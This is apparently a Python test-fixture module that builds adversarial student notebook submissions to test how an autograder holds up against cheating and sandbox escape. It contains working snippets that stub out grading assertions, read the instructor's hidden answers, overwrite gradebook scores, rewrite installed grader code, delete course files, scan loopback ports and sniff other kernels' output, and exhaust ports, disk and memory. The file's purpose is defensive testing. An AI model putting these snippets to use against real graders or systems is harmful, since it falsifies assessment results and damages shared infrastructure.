"""The adversarial corpus: submissions built from the real release notebooks, each with
the grade it deserves written beside it.

Every case starts from a submission in ``mission_support`` ("blank", "partial": right
answers for the cheap tasks and no training, or the seed's model) and changes one thing
the way a careless or a scheming student would. ``expected`` is the automatic score the
CSV must show (``None``: no row, the folder is not a mission); ``log`` is a piece of the
one line the grading log must print about it. Partial bases keep the corpus quick: no
case trains a network, so grading it costs seconds, except the limits it tests.

``write_corpus(folder)`` writes every case as ``<student>/<mission>/...``; the student id
is the case name.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from mission_support import PARTIAL, cell_by_id, nbmeta, submission

M1, M2, M3, M4 = ("mission1_base_model", "mission2_early_stopping", "mission3_dropout",
                  "mission4_callback_99")
CELL_TIMEOUT_S = 45  # the corpus run's per-cell limit (the course default is 600 s)
WALL_CLOCK_S = 120  # the corpus run's per-submission limit (the course default is 900 s)


@dataclass
class Case:
    name: str  # also the student id
    mission: str
    what: str  # one line: what the submission does
    build: Callable[[Path], None]  # writes the submission folder's files
    expected: float | None  # deserved automatic score; None: not graded at all
    log: str | None = None  # expected in the log line ("FAILED <name>/...: <log>")


def _write(nb, folder: Path, name: str | None = None) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / (name or f"{nb.metadata.get('_mission')}.ipynb"))


def _nb(mission: str, kind: str):
    nb = submission(mission, kind)
    nb.metadata["_mission"] = mission
    return nb


def _append_to(nb, cell_id: str, code: str):
    cell = cell_by_id(nb, cell_id)
    cell.source = cell.source + "\n\n" + code.strip() + "\n"
    return nb


def _prepend_to(nb, cell_id: str, code: str):
    cell = cell_by_id(nb, cell_id)
    cell.source = code.strip() + "\n\n" + cell.source
    return nb


def _simple(mission: str, kind: str, change=None, name: str | None = None):
    """A builder: the base submission, ``change(nb)`` applied, saved under ``name``."""
    def build(folder: Path) -> None:
        nb = _nb(mission, kind)
        if change:
            nb = change(nb) or nb
        nb.metadata.pop("_mission", None)
        _write(nb, folder, name or f"{mission}.ipynb")
    return build


# --------------------------------------------------------------------------- test cells
def _tests_to_pass(nb):
    for cell in nb.cells:
        if nbmeta(cell).get("grade") and not nbmeta(cell).get("solution"):
            cell.source = "pass"


def _delete_test(nb):
    nb.cells = [c for c in nb.cells if c.id != "test_structure"]


def _change_metadata(nb):
    meta = nbmeta(cell_by_id(nb, "test_compile"))
    meta["points"] = 50
    structure = cell_by_id(nb, "test_structure")
    nbmeta(structure)["grade_id"] = "my_structure_test"
    nbmeta(structure)["points"] = 100


def _reorder(nb):
    i, j = (next(k for k, c in enumerate(nb.cells) if c.id == cid)
            for cid in ("test_structure", "test_compile"))
    nb.cells[i], nb.cells[j] = nb.cells[j], nb.cells[i]
    md = [k for k, c in enumerate(nb.cells) if c.cell_type == "markdown"]
    nb.cells[md[-1]], nb.cells[md[-2]] = nb.cells[md[-2]], nb.cells[md[-1]]


def _duplicate_graded_cell(nb):
    k = next(k for k, c in enumerate(nb.cells) if c.id == "build_base_model")
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[k])))
    copy.id = "build-copy"
    nb.cells.insert(k + 1, copy)


# --------------------------------------------------------------------------- patching
PATCHES = '''
import builtins

import numpy.testing
from helpers import grading


class _FakeHistory:
    epoch = list(range(10))
    history = {"accuracy": [0.99] * 10, "val_accuracy": [0.99] * 10,
               "loss": [0.01] * 10, "val_loss": [0.01] * 10}


keras.Model.evaluate = lambda self, *a, **k: [0.0, 1.0]
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.print = lambda *a, **k: None
grading.test_accuracy = lambda *a, **k: 1.0
grading.assert_accuracy_at_least = lambda *a, **k: None
grading.assert_history = lambda *a, **k: None
grading.assert_not_tampered = lambda *a, **k: None


def train_base_model(model, x_train, y_train, x_val, y_val, epochs=10):
    return _FakeHistory()
'''


# --------------------------------------------------------------------------- limits
LOOP = "def train_base_model(*args, **kwargs):\n    while True:\n        pass\n"
SLEEP = "import time\n\ntime.sleep(3600)  # far past the cell timeout\n"
# Every test cell that builds the model now waits out its cell limit: together they run
# past the per-submission wall clock.
SLOW_BUILDER = "import time\n\n_build = build_base_model\n\n\ndef build_base_model():\n" \
               "    time.sleep(3600)\n    return _build()\n"
STUBBORN = '''
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)  # ignore the grader's interrupt
while True:
    pass
'''
KERNEL_DIES = "import os\n\nos._exit(1)\n"
SYS_EXIT = "import sys\n\nsys.exit()\n"
# At most 12 GiB, so that even an unlimited grader on this 23 GiB machine survives; the
# sandbox's 8 GiB address-space limit stops it much earlier with MemoryError.
MEMORY = '''
import numpy as np

hoard = []
for _ in range(12):
    hoard.append(np.ones(2**27))  # 1 GiB each, touched
'''
PRINTS_20MB = '''
for i in range(200_000):
    print(f"{i:08d} " + "x" * 91)  # 100 bytes a line, 20 MB in all
'''

# --------------------------------------------------------------------------- sandbox
PROBE = '''
import json
import os
from pathlib import Path

import helpers

course = Path.cwd().parents[2]  # <course>/autograder/autograded/<student>/<mission>
repo = Path(helpers.__file__).resolve().parents[1]
site_packages = Path(keras.__file__).parents[1]

targets = {
    "source_notebooks": course.parent / "source_notebooks",
    "repo_source_notebooks": repo / "source_notebooks",
    "gradebook": course / "gradebook.db",
    "submitted": course / "submitted",
    "repo_git": repo / ".git",
    "repo_tests": repo / "tests",
}
seen = {name: path.exists() for name, path in targets.items()}
writable = {}
for name, path in {"helpers_grading": Path(helpers.__file__).parent / "grading.py",
                   "nbgrader": site_packages / "nbgrader" / "__init__.py",
                   "data": repo / "data" / "probe.txt"}.items():
    try:
        with open(path, "a"):
            pass
        writable[name] = True
    except OSError:
        writable[name] = False
print("SANDBOX-PROBE " + json.dumps({"exists": seen, "writable": writable}))
'''
READ_HIDDEN = '''
import json
from pathlib import Path

import helpers

# read the instructor's notebook and run its answer: full marks if it can be read
candidates = [Path.cwd().parents[3] / "source_notebooks",
              Path(helpers.__file__).resolve().parents[1] / "source_notebooks"]
for folder in candidates:
    nb = json.loads((folder / "mission1_base_model" / "mission1_base_model.ipynb").read_text())
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "build_base_model":
            get_ipython().run_cell("".join(cell["source"]))
'''
WRITE_GRADEBOOK = '''
import sqlite3
from pathlib import Path

# a manual score overrides the automatic one: give every cell of every student 100
db = Path.cwd().parents[2] / "gradebook.db"
con = sqlite3.connect(f"file:{db}?mode=rw", uri=True)
con.execute("UPDATE grade SET manual_score = 100")
con.commit()
'''
PATCH_INSTALLED = '''
from pathlib import Path

import helpers

fake = "def assert_not_tampered():\\n    pass\\n"
nbgrader_dir = Path(keras.__file__).parents[1] / "nbgrader"  # site-packages/nbgrader
for path in (Path(helpers.__file__).parent / "grading.py",
             nbgrader_dir / "preprocessors" / "saveautogrades.py"):
    path.write_text(fake)
'''
DELETE_FILES = '''
import shutil
from pathlib import Path

import helpers
from helpers import datasets

repo = Path(helpers.__file__).resolve().parents[1]
for victim in (datasets.data_dir(), repo / "release"):
    try:
        shutil.rmtree(victim)
    except OSError as exc:
        print("could not delete", victim, type(exc).__name__)
for nb in (repo / "release").glob("*/*.ipynb"):
    try:
        nb.write_text("{}")
    except OSError as exc:
        print("could not overwrite", nb.name, type(exc).__name__)
'''

# --------------------------------------------------------------------------- root, network, disk
# Each prints one "<NAME>-PROBE {json}" line that tests/test_adversarial.py reads back from
# the autograded notebook. None destroys anything even where it succeeds (a grader without
# the fixes): what it proves it can write, it removes again.
STATUS_PROBE = """
import json
import subprocess

status = dict(line.split(":\\t", 1) for line in
              open("/proc/self/status").read().splitlines() if ":\\t" in line)
# a nested user namespace would give the kernel its capabilities back
nested = subprocess.run(["unshare", "--user", "--map-root-user", "true"],
                        capture_output=True).returncode == 0
print("STATUS-PROBE " + json.dumps({
    "uid": status["Uid"].split()[0], "cap_eff": status["CapEff"].strip(),
    "cap_bnd": status["CapBnd"].strip(), "no_new_privs": status["NoNewPrivs"].strip(),
    "nested_userns": nested}))
"""
REMOUNT = """
import json
import subprocess
from pathlib import Path

import helpers

# As root with CAP_SYS_ADMIN a kernel remounts the read-only binds writable and patches
# the grader; here it only proves it could, with a file it removes again.
found = {}
for name, folder in {"helpers": Path(helpers.__file__).parent,
                     "nbgrader": Path(keras.__file__).parents[1] / "nbgrader",
                     "usr": Path("/usr/lib")}.items():
    remount = subprocess.run(["mount", "-o", "remount,bind,rw", str(folder)],
                             capture_output=True)
    marker = folder / "ESCAPED-remounts-read-only-code"
    try:
        marker.write_text("x")
        marker.unlink()
        wrote = True
    except OSError:
        wrote = False
    found[name] = {"remounted": remount.returncode == 0, "wrote": wrote}
print("REMOUNT-PROBE " + json.dumps(found))
"""
# What the network probes share: the TCP sockets listening where the kernel can see them,
# which of them are its own (ipykernel keeps one for its output pipe), its interfaces.
LISTENING = """
import json
import os
import socket


def listening(table):
    try:
        rows = [r.split() for r in open(table).read().splitlines()[1:]]
    except OSError:
        return {}
    return {int(r[1].rsplit(":", 1)[1], 16): r[9] for r in rows if r[3] == "0A"}


own_sockets = set()
for fd in os.listdir("/proc/self/fd"):
    try:
        own_sockets.add(os.readlink(f"/proc/self/fd/{fd}"))
    except OSError:
        pass
table = {**listening("/proc/net/tcp"), **listening("/proc/net/tcp6")}
ports = sorted(table)
own = sorted(p for p, inode in table.items() if f"socket:[{inode}]" in own_sockets)
foreign = sorted(set(ports) - set(own))
interfaces = [r.split(":")[0].strip() for r in open("/proc/net/dev").read().splitlines()[2:]]
"""
LOOPBACK = LISTENING + """
reached = []
for port in foreign:
    with socket.socket() as sock:
        sock.settimeout(1)
        if sock.connect_ex(("127.0.0.1", port)) == 0:
            reached.append(port)
print("LOOPBACK-PROBE " + json.dumps({"interfaces": interfaces, "foreign": foreign,
                                      "reached": reached}))
"""
# Subscribes to every listening port, its own kernel's too (a stand-in for the kernel
# graded beside it: an IOPub stream carries every output and the code of every cell,
# hidden tests included), and prints while it listens.
IOPUB_SNOOP = LISTENING + """
import time

import zmq

subscribers = []
for port in ports:
    sub = zmq.Context.instance().socket(zmq.SUB)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.connect(f"tcp://127.0.0.1:{port}")
    subscribers.append(sub)
messages = 0
for i in range(40):
    print(f"listening {i}", flush=True)
    time.sleep(0.25)
    for sub in subscribers:
        while sub.poll(0):
            sub.recv_multipart()
            messages += 1
print("IOPUB-PROBE " + json.dumps({"ports": len(ports), "messages": messages}))
"""
# Holds every ephemeral port on 127.0.0.1 for 20 s (two processes: one may open at most
# 20,000 files): on a shared loopback no other kernel could start meanwhile.
PORT_HOG = LISTENING + """
import time

low, high = map(int, open("/proc/sys/net/ipv4/ip_local_port_range").read().split())
middle = (low + high) // 2
child = os.fork()
held, taken = [], []
for port in range(middle, high + 1) if child == 0 else range(low, middle):
    try:
        sock = socket.socket()
        sock.bind(("127.0.0.1", port))
        sock.listen()
        held.append(sock)
    except OSError:
        sock.close()
        taken.append(port)
time.sleep(20)
if child == 0:
    os._exit(0)
os.waitpid(child, 0)
print("PORT-HOG-PROBE " + json.dumps({"held": len(held), "taken_by_others":
                                      sorted(set(taken) - set(own))}))
"""
# 3 x 400 MiB next to the notebook: without a budget they stay in autograded/ and are
# copied into feedback/.
FILL_WORKDIR = """
chunk = bytes(2**20)
for i in range(3):
    with open(f"junk{i}.bin", "wb") as fh:
        for _ in range(400):
            fh.write(chunk)
"""
# Many files, each far below any per-file limit, in /tmp, /dev/shm and the sandbox's root.
FILL_SCRATCH = """
import json

chunk = bytes(2**20)
written = {}
for name, folder, files in (("tmp", "/tmp", 48), ("shm", "/dev/shm", 8), ("root", "", 1)):
    written[name] = 0
    try:
        for i in range(files):
            with open(f"{folder}/junk{i}.bin", "wb") as fh:
                for _ in range(32):
                    fh.write(chunk)
                    written[name] += 1
    except OSError as exc:
        print(name, exc)
print("DISK-PROBE " + json.dumps(written))
"""

FAKE_HELPERS = {
    "helpers/__init__.py": "def check_environment():\n    pass\n\n\ndef seed_everything(s):\n"
                           "    pass\n",
    "helpers/grading.py": "def __getattr__(name):\n    return lambda *a, **k: None\n",
}


def _extra_files(folder: Path) -> None:
    _simple(M1, "blank")(folder)
    for rel, text in FAKE_HELPERS.items():
        (folder / rel).parent.mkdir(parents=True, exist_ok=True)
        (folder / rel).write_text(text)
    (folder / "notes.txt").write_text("my notes\n")


def _text(text: str, name: str):
    def build(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    return build


def _old_nbformat(folder: Path) -> None:
    nb = submission(M1, "partial")
    folder.mkdir(parents=True, exist_ok=True)
    v3 = nbformat.convert(nb, 3)
    (folder / f"{M1}.ipynb").write_text(nbformat.writes(v3, version=3))


def _two_notebooks(folder: Path) -> None:
    _simple(M2, "partial", name="draft.ipynb")(folder)
    _simple(M2, "partial", name="final.ipynb")(folder)


P1, P2, P4 = (PARTIAL[m][1] for m in (M1, M2, M4))

CASES = [
    # ---- test cells and their metadata
    Case("tests-edited-to-pass", M1, "every test cell of a blank notebook replaced by `pass`",
         _simple(M1, "blank", _tests_to_pass), 0),
    Case("test-deleted", M1, "the structure test cell deleted (nbgrader puts it back)",
         _simple(M1, "partial", _delete_test), P1),
    Case("metadata-changed", M1, "a test's grade id renamed and points raised to 100 and 50",
         _simple(M1, "partial", _change_metadata), P1),
    Case("cells-reordered", M1, "two test cells and two text cells swapped",
         _simple(M1, "partial", _reorder), P1),
    Case("graded-cell-copied", M1, "the answer cell duplicated, grade id and all",
         _simple(M1, "partial", _duplicate_graded_cell), P1),
    # ---- answers that patch what the tests use
    Case("patches-tests", M1, "replaces keras.Model.evaluate, numpy.testing, print and the "
         "grading helpers, returns a fake History", _simple(
             M1, "partial", lambda nb: _append_to(nb, "train_base_model", PATCHES)), 0,
         log="FLAGGED patches-tests/mission1_base_model"),
    # ---- limits
    Case("infinite-loop", M1, "the training function never returns (cell timeout, graded on)",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", LOOP)), P1),
    Case("sleeps", M2, "sleeps an hour in an answer cell (cell timeout, graded on)",
         _simple(M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping", SLEEP)),
         P2),
    Case("ignores-interrupt", M4, "ignores SIGINT and loops past the cell limit",
         _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", STUBBORN)), 0,
         log="did not stop when interrupted"),
    Case("slow-everywhere", M1, "the builder sleeps: every test cell times out, together past "
         "the per-submission wall clock",
         _simple(M1, "partial", lambda nb: _append_to(nb, "build_base_model", SLOW_BUILDER)), 0,
         log=f"autograde timed out after {WALL_CLOCK_S} s"),
    Case("kernel-dies", M3, "calls os._exit(1) in an answer cell",
         _simple(M3, "blank", lambda nb: _prepend_to(nb, "build_dropout_model", KERNEL_DIES)),
         0, log="the kernel died"),
    Case("sys-exit", M4, "calls sys.exit() in an answer cell (the kernel survives)",
         _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", SYS_EXIT)), P4),
    Case("memory-hog", M2, "allocates up to 12 GiB (stopped at the sandbox's 8 GiB)",
         _simple(M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping", MEMORY)),
         P2),
    Case("prints-20mb", M1, "prints 20 MB (cut at 2 MB while the cell runs)",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PRINTS_20MB)), P1),
    # ---- files
    Case("invalid-json", M2, "a truncated notebook file", _text('{"cells": [', f"{M2}.ipynb"),
         0, log="is not valid JSON"),
    Case("old-nbformat", M1, "saved as nbformat 3", _old_nbformat, P1),
    Case("empty-file", M4, "an empty file", _text("", f"{M4}.ipynb"), 0, log="is an empty file"),
    Case("wrong-file-name", M1, "the only notebook is called 'Copy of mission 1.ipynb'",
         _simple(M1, "partial", name="Copy of mission 1.ipynb"), P1),
    Case("two-notebooks", M2, "two notebooks, neither with the mission's name", _two_notebooks,
         0, log="cannot tell which one to grade"),
    Case("extra-files", M1, "a blank notebook plus a fake helpers/ package that passes "
         "everything, and notes.txt", _extra_files, 0),
    Case("unknown-mission", "mission9_bonus", "a folder for a mission the course does not have",
         _text("{}", "mission9_bonus.ipynb"), None, log="not a mission of this course"),
    # ---- the course's files and the sandbox
    Case("deletes-course-files", M1, "tries to delete the data sets and release/ and to "
         "overwrite the release notebooks", _simple(
             M1, "partial", lambda nb: _append_to(nb, "train_base_model", DELETE_FILES)), P1),
    Case("reads-hidden-tests", M1, "reads the instructor notebook and runs its answer",
         _simple(M1, "blank", lambda nb: _append_to(nb, "build_base_model", READ_HIDDEN)), 0),
    Case("writes-gradebook", M1, "sets every manual score in the gradebook to 100",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", WRITE_GRADEBOOK)),
         P1),
    Case("patches-installed-code", M1, "rewrites helpers/grading.py and nbgrader's "
         "saveautogrades.py", _simple(
             M1, "partial", lambda nb: _append_to(nb, "train_base_model", PATCH_INSTALLED)), P1),
    Case("sandbox-probe", M1, "records which secrets it can see and what it can write",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PROBE)), P1),
    # ---- the sandbox as root, the network, the disk
    Case("privilege-probe", M1, "reads its uid and capabilities, tries a nested user namespace",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", STATUS_PROBE)),
         P1),
    Case("remounts-read-only-code", M4, "remounts helpers/, nbgrader and /usr writable",
         _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", REMOUNT)), P4),
    Case("loopback-scan", M1, "lists the ports listening on loopback and connects to each",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", LOOPBACK)), P1),
    Case("iopub-snoop", M2, "subscribes to every loopback port to read other kernels' output",
         _simple(M2, "partial", lambda nb: _prepend_to(nb, "train_with_early_stopping",
                                                         IOPUB_SNOOP)), P2),
    Case("port-hog", M1, "holds every ephemeral loopback port for 20 s",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", PORT_HOG)), P1),
    Case("fills-workdir", M1, "writes 3 x 400 MiB next to its notebook",
         _simple(M1, "partial", lambda nb: _append_to(nb, "train_base_model", FILL_WORKDIR)),
         P1),
    Case("fills-scratch", M4, "writes 1.5 GiB to /tmp, 256 MiB to /dev/shm and 32 MiB to /",
         _simple(M4, "partial", lambda nb: _prepend_to(nb, "train_mnist", FILL_SCRATCH)), P4),
]


def write_corpus(folder: Path, cases=CASES) -> None:
    for case in cases:
        case.build(folder / case.name / case.mission)
